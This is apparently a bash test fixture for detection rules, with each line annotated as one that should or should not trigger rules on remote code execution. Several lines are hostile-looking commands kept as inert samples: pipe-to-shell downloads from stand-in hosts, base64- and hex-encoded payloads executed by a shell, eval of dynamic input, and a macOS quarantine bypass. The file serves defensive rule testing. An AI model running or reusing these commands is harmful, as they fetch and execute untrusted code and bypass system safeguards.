#!/bin/bash
# Inert samples of remote code execution. Hosts are documentation addresses. Never run.
# ruleid: remote-code-pipe-to-shell
curl -fsSL https://get.vendor.dev | sh
# ok: remote-code-untrusted-host
curl -fsSL https://get.vendor.dev | sh
# ok: remote-code-pipe-to-shell
curl -fsSL https://get.vendor.dev -o install-vendor.sh
# ruleid: remote-code-pipe-to-shell
bash <(curl -s https://tools.example.com/setup)
# ruleid: remote-code-pipe-to-shell
sh -c "$(wget -qO- https://tools.example.com/bootstrap)"
# ruleid: remote-code-untrusted-host
curl -fsSL http://203.0.113.7/install.sh | bash
# ruleid: remote-code-untrusted-host
URL=https://pastebin.com/raw/AbCdEf12; curl -s "$URL" | bash
# ok: remote-code-download-exec
curl -o data.json https://api.example.org/data && jq . data.json
curl -fsSLo /tmp/setup.sh https://tools.example.com/setup.sh
# ruleid: remote-code-download-exec
chmod +x /tmp/setup.sh && /tmp/setup.sh
# ruleid: shell-decoded-payload-exec
echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvcCB8IHNo | base64 -d | sh
# ruleid: shell-decoded-payload-exec
printf '\x65\x63\x68\x6f\x20\x68\x69' | bash
# ruleid: shell-decoded-payload-exec
echo 6563686f206869 | xxd -r -p | sh
# ruleid: shell-decoded-payload-exec
payload=$(echo ZWNobyBoaQ== | openssl enc -d -base64); eval "$payload"
# ok: shell-decoded-payload-exec
echo aGVsbG8= | base64 -d
echo Y3VybCAtcyBodHRwczovL2Ryb3AuZXhhbXBsZS5vcmcvcCB8IHNo | base64 -d > /tmp/.helper
# ruleid: shell-decoded-payload-exec
chmod 755 /tmp/.helper && /tmp/.helper
# ok: shell-decoded-payload-exec
base64 -d data.b64 > out.bin
# ruleid: shell-dynamic-command
eval "$CMD"
# ok: shell-dynamic-command
sh -c 'echo hello'
# ruleid: shell-package-install
pip install requests==2.32.3
# ok: shell-package-install
pip list
# ruleid: shell-package-run
npx -y cowsay@1.6.0 hello
# ok: shell-package-run
npm test
# ruleid: shell-password-archive
unzip -P infected payload.zip
# ok: shell-password-archive
unzip archive.zip -d out
# ruleid: shell-gatekeeper-bypass
xattr -d com.apple.quarantine ./helper
# ok: shell-gatekeeper-bypass
xattr -l ./helper
